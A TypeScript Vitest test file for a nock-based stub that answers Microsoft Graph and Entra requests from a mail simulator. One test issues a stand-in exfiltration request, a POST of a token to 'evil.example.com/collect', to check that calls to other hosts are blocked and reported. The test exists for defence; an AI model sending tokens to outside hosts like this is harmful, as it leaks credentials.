/** `stubGraph`: what is sent to Graph's and Entra's real names is answered by the simulator, and a test is told what it did not expect. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import nock from "nock";
import { afterAll, beforeEach, expect, onTestFinished, test, vi } from "vitest";
import { createSimulator, type GraphStub, type Simulator, type StubOptions, stubGraph } from "../../../simulator/index.js";
import { createMailDaemon, type MailDaemon, type MailDaemonOptions } from "../../../src/index.js";
import { address, hostOptions, next } from "../../support/host.js";
import { everyScope, graphOrigin } from "./caller.js";

// Nock takes the global fetch when it is loaded, and the files of this process share it.
beforeEach(() => {
  if (!nock.isActive()) nock.activate();
  nock.disableNetConnect();
  nock.enableNetConnect("127.0.0.1");
});
afterAll(() => {
  nock.enableNetConnect();
  nock.cleanAll();
  nock.restore();
});

function scene(options?: StubOptions): { sim: Simulator; stub: GraphStub; ask: (path: string, init?: RequestInit) => Promise<Response> } {
  const sim = createSimulator({ seed: 1 });
  const user = sim.addUser({ address });
  const stub = stubGraph(nock, sim, options);
  onTestFinished(() => stub.restore());
  let token: Promise<string> | undefined;
  const ask = async (path: string, init: RequestInit = {}) => {
    token ??= tokenFor(sim, user.issueRefreshToken());
    return fetch(`${graphOrigin}/v1.0${path}`, { ...init, headers: { authorization: `Bearer ${await token}`, ...init.headers } });
  };
  return { sim, stub, ask };
}

async function tokenFor(sim: Simulator, refreshToken: string): Promise<string> {
  const body = new URLSearchParams({
    grant_type: "refresh_token",
    client_id: sim.clientId,
    scope: everyScope,
    refresh_token: refreshToken,
  });
  const response = await fetch(`https://login.microsoftonline.com/${sim.tenantId}/oauth2/v2.0/token`, { method: "POST", body });
  return ((await response.json()) as { access_token: string }).access_token;
}

/** A daemon that goes through the global fetch. */
async function daemonOn(sim: Simulator, options: Partial<MailDaemonOptions> = {}): Promise<MailDaemon> {
  const { fetch: _, ...rest } = hostOptions(sim, options);
  const daemon = createMailDaemon(rest);
  await daemon.signIn(address, { method: "refreshToken", refreshToken: sim.user(address).issueRefreshToken() });
  return daemon;
}

test("a daemon without a door of its own gets its mail through the global fetch, and marks it", async () => {
  const { sim, stub } = scene();
  const signedIn = stub.expect({ route: "token", mailbox: address });
  const marked = stub.expect({ route: "mark", times: 1 });
  const never = stub.expect({ route: "delete", times: 0 });
  const seen: string[] = [];
  const daemon = await daemonOn(sim, { handler: ({ message }) => void seen.push(message.subject) });
  const id = sim.mailbox(address).deliver({ subject: "Größe ✓" });
  const settled = next(daemon, "message:marked");
  await daemon.start();
  await settled;
  await daemon.stop();
  expect(seen).toEqual(["Größe ✓"]);
  expect(sim.mailbox(address).message(id)?.isRead).toBe(true);
  expect([signedIn.isMet, marked.count, never.count]).toEqual([true, 1, 0]);
  stub.done();
});

test("attachments pass through as bytes", async () => {
  const { sim, stub } = scene();
  let length = 0;
  const daemon = await daemonOn(sim, {
    handler: async ({ message }) => {
      for (const attachment of await message.attachments()) {
        for await (const piece of await attachment.stream()) length += piece.length;
      }
    },
  });
  sim.mailbox(address).deliver({ attachments: [{ name: "kettle.jpg", content: 300_000 }] });
  const settled = next(daemon, "message:settled");
  await daemon.start();
  await settled;
  await daemon.stop();
  expect(length).toBe(300_000);
  stub.done();
});

test("every cloud's names are answered", async () => {
  const { sim, stub } = scene();
  const hosts = ["login.microsoftonline.us", "login.partner.microsoftonline.cn", "login.chinacloudapi.cn"];
  for (const host of hosts) {
    const response = await fetch(`https://${host}/${sim.tenantId}/v2.0/.well-known/openid-configuration`);
    expect(response.status).toBe(200);
  }
  for (const host of ["graph.microsoft.us", "dod-graph.microsoft.us", "microsoftgraph.chinacloudapi.cn"]) {
    expect((await fetch(`https://${host}/v1.0/me`)).status).toBe(401);
  }
  expect(sim.log.count()).toBe(6);
  stub.done();
});

test("a JSON body, a form and a query reach the simulator as they were sent, and answers keep status, headers and URL", async () => {
  const { sim, ask } = scene();
  const id = sim.mailbox(address).deliver();
  const patched = await ask(`/me/messages/${id}`, {
    method: "PATCH",
    headers: { "content-type": "application/json", prefer: 'IdType="ImmutableId"' },
    body: JSON.stringify({ categories: ["größe", "b"] }),
  });
  expect(patched.status).toBe(200);
  expect(patched.headers.get("request-id")).toMatch(/^[0-9a-f-]{36}$/);
  expect(sim.mailbox(address).message(id)?.categories).toEqual(["größe", "b"]);
  const read = await ask(`/me/messages/${id}?$select=categories`, { headers: { prefer: 'IdType="ImmutableId"' } });
  expect(read.url).toBe(`${graphOrigin}/v1.0/me/messages/${id}?$select=categories`);
  expect(await read.json()).toMatchObject({ id, categories: ["größe", "b"] });
  const gone = await ask(`/me/messages/${id}`, { method: "DELETE", headers: { prefer: 'IdType="ImmutableId"' } });
  expect([gone.status, await gone.text()]).toEqual([204, ""]);
});

test("an expected failure strikes as often as it was expected, and what is tried again goes through", async () => {
  const { sim, stub } = scene();
  const failed = stub.expect({ route: "delta", mailbox: address, fail: { status: 503 }, times: 2 });
  const daemon = await daemonOn(sim);
  sim.mailbox(address).deliver();
  const settled = next(daemon, "message:settled");
  await daemon.start();
  await settled;
  await daemon.stop();
  expect(failed.count).toBeGreaterThan(2);
  const statuses = sim.log.entries({ route: "delta" }).map(({ status }) => status);
  expect(statuses.slice(0, 3)).toEqual([503, 503, 200]);
  stub.done();
});

test("a broken connection looks as one of the network's does", async () => {
  const { stub, ask } = scene();
  stub.expect({ route: "me", fail: { dropSocket: "before" } });
  const error: unknown = await ask("/me").catch((cause: unknown) => cause);
  expect(error).toBeInstanceOf(TypeError);
  expect(error).toMatchObject({ message: "fetch failed", cause: { code: "ECONNRESET" } });
  expect((await ask("/me")).status).toBe(200);
});

test.each([
  ["one that never came", { route: "mark" }, "expected mark at least once, asked 0 times"],
  ["one that came too often", { route: "me", times: 1 }, "expected me once, asked 2 times"],
  ["one that was not to come", { route: ["me", "user"], times: 0 }, "expected me or user 0 times, asked 2 times"],
  ["one of another mailbox", { route: "me", mailbox: "sales@contoso.com" }, "expected me for sales@contoso.com at least once"],
  ["a failure that struck nothing", { route: "delta", times: 2, fail: { status: 500 } }, "expected delta at least 2 times"],
] as const)("done names an expectation that is not met: %s", async (_, expectation, words) => {
  const { stub, ask } = scene();
  stub.expect(expectation);
  await ask("/me");
  await ask("/me");
  expect(() => stub.done()).toThrow(words);
});

test("only what is asked after an expectation counts", async () => {
  const { stub, ask } = scene();
  await ask("/me");
  const expected = stub.expect({ route: "me", times: 1 });
  expect([expected.count, expected.isMet]).toEqual([0, false]);
  await ask("/me");
  expect([expected.count, expected.isMet]).toEqual([1, true]);
  stub.done();
});

test.each([-1, 1.5, Number.NaN])("a number of times that cannot be is refused: %s", (times) => {
  expect(() => scene().stub.expect({ route: "me", times })).toThrow(TypeError);
});

test("a failure is not expected no times", () => {
  expect(() => scene().stub.expect({ route: "me", times: 0, fail: { status: 500 } })).toThrow(TypeError);
});

test("another host that is asked is named, without what was asked of it; one with an interceptor and one that is allowed are not", async () => {
  const { stub } = scene({ allowHosts: ["allowed.example.com"] });
  nock("https://crm.example.com").get("/tickets").reply(200, "none");
  expect(await (await fetch("https://crm.example.com/tickets")).text()).toBe("none");
  await expect(fetch("https://allowed.example.com/")).rejects.toThrow();
  stub.done();
  await expect(fetch("https://evil.example.com/collect?token=abc", { method: "POST", body: "mine" })).rejects.toThrow(
    "Disallowed net connect",
  );
  expect(() => stub.done()).toThrow(/another host was asked: POST evil\.example\.com\/collect$/);
});

test("this machine may be asked", async () => {
  const server = createServer((_, response) => response.setHeader("connection", "close").end("here"));
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => new Promise<void>((resolve) => void server.close(() => resolve())));
  const { stub } = scene();
  expect(await (await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)).text()).toBe("here");
  stub.done();
});

test("what the simulator does not know is named", async () => {
  const { stub, ask } = scene();
  expect((await ask("/me/calendar?$select=secret")).status).toBe(501);
  expect(() => stub.done()).toThrow("the simulator does not know GET /v1.0/me/calendar (SimulatorUnknownRoute)");
});

test("what is left to interceptors of the test's own is theirs; what they do not answer is named", async () => {
  const { stub, ask } = scene({
    leave: ({ method, host, path }) => method === "POST" && host === "graph.microsoft.com" && path.endsWith("/sendMail"),
  });
  nock(graphOrigin).post("/v1.0/me/sendMail").reply(202);
  expect((await ask("/me/sendMail", { method: "POST", body: "{}" })).status).toBe(202);
  expect((await ask("/me")).status).toBe(200);
  stub.done();
  await expect(ask("/me/sendMail", { method: "POST", body: "{}" })).rejects.toThrow("No match for request");
  expect(() => stub.done()).toThrow("no interceptor answers POST graph.microsoft.com/v1.0/me/sendMail");
});

test("restore ends what has no answer yet, with its timer, its failures and its interceptors, and leaves those of others", async () => {
  const { sim, stub, ask } = scene();
  await ask("/me");
  nock("https://crm.example.com").get("/tickets").reply(200);
  stub.expect({ route: "me", times: 2, fail: { status: 500, delayMs: 3_600_000 } });
  const asking = ask("/me");
  const refused = expect(asking).rejects.toThrow("The stub of Graph was restored.");
  await vi.waitUntil(() => sim.log.count({ route: "me" }) === 2);
  stub.restore();
  stub.restore();
  await refused;
  expect(nock.activeMocks()).toEqual(["GET https://crm.example.com:443/tickets"]);
  nock.cleanAll();
  // The second failure would have struck this one.
  expect((await sim.fetch(`${graphOrigin}/v1.0/me`)).status).toBe(401);
});

test("after restore nock knows nothing of these hosts, and is active only if it was before", async () => {
  nock.restore();
  const real = globalThis.fetch;
  const { stub } = scene();
  expect([nock.isActive(), globalThis.fetch === real]).toEqual([true, false]);
  stub.restore();
  expect([nock.isActive(), globalThis.fetch === real, nock.activeMocks()]).toEqual([false, true, []]);
  nock.activate();
  await expect(fetch(`${graphOrigin}/v1.0/me`)).rejects.toThrow("Disallowed net connect");
});

test("a nock that is stubbed already, and one that is off, are refused", () => {
  const { sim } = scene();
  expect(() => stubGraph(nock, sim)).toThrow("restore()");
  vi.stubEnv("NOCK_OFF", "true");
  onTestFinished(() => void vi.unstubAllEnvs());
  expect(() => stubGraph(nock, sim)).toThrow("NOCK_OFF");
});

test("idle resolves when what was asked is answered and read, with timers faked as well", async () => {
  const { sim, stub, ask } = scene();
  await ask("/me");
  vi.useFakeTimers();
  onTestFinished(() => void vi.useRealTimers());
  let read = 0;
  for (let number = 1; number <= 50; number += 1) {
    void ask("/me")
      .then((response) => response.json())
      .then(() => {
        read += 1;
      });
    await stub.idle();
    expect(read).toBe(number);
  }
  expect(sim.log.count({ route: "me" })).toBe(51);
});

test("idle does not wait for a delay, which lasts as long as the faked timers say", async () => {
  const { stub, ask } = scene();
  await ask("/me");
  vi.useFakeTimers();
  onTestFinished(() => void vi.useRealTimers());
  stub.expect({ route: "me", fail: { delayMs: 5_000 } });
  let status = 0;
  void ask("/me").then((response) => {
    status = response.status;
  });
  await stub.idle();
  await vi.advanceTimersByTimeAsync(4_999);
  await stub.idle();
  expect(status).toBe(0);
  await vi.advanceTimersByTimeAsync(1);
  await stub.idle();
  expect(status).toBe(200);
});

test("idle waits for a batch of twenty", async () => {
  const { sim, stub, ask } = scene();
  await ask("/me");
  const requests = Array.from({ length: 20 }, (_, part) => ({ id: String(part), method: "GET", url: "/me/mailFolders/inbox" }));
  const asking = ask("/$batch", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ requests }),
  });
  await stub.idle();
  expect(sim.log.entries({ route: "folder" }).filter(({ status }) => status === 200)).toHaveLength(20);
  expect(((await (await asking).json()) as { responses: unknown[] }).responses).toHaveLength(20);
});

test("under faked timers a daemon lives through an hour of polling, and is marked and throttled in it", async () => {
  vi.useFakeTimers({ now: Date.parse("2026-03-14T08:00:00Z") });
  onTestFinished(() => void vi.useRealTimers());
  const { sim, stub } = scene();
  const seen: string[] = [];
  const daemon = await through(
    stub,
    daemonOn(sim, { defaults: {}, handler: ({ message }) => void seen.push(message.receivedAt.toISOString()) }),
  );
  await through(stub, daemon.start());
  await pass(stub, 60_000);
  const before = sim.log.count({ route: "delta" });
  sim.mailbox(address).deliver();
  const marked = stub.expect({ route: "mark", times: 1 });
  stub.expect({ route: "delta", fail: { status: 429, retryAfter: 600 } });
  // Exchange keeps whole seconds.
  const at = Math.floor(Date.now() / 1000) * 1000;
  await pass(stub, 3_600_000);
  await through(stub, daemon.stop());
  expect(seen).toEqual([new Date(at).toISOString()]);
  expect(marked.count).toBe(1);
  expect(sim.log.count({ route: "delta" })).toBeGreaterThan(before + 50);
  expect(sim.log.knockedWhileBarred()).toEqual([]);
  stub.done();
});

/** Lets time go on until the work is done. */
async function through<T>(stub: GraphStub, work: Promise<T>): Promise<T> {
  let isDone = false;
  const ended = () => {
    isDone = true;
  };
  work.then(ended, ended);
  while (!isDone) await pass(stub, 10);
  return work;
}

/** Lets so much time pass, in steps, each once what was asked is answered. */
async function pass(stub: GraphStub, ms: number): Promise<void> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    await stub.idle();
    await vi.advanceTimersByTimeAsync(Math.min(1_000, end - Date.now()));
  }
}
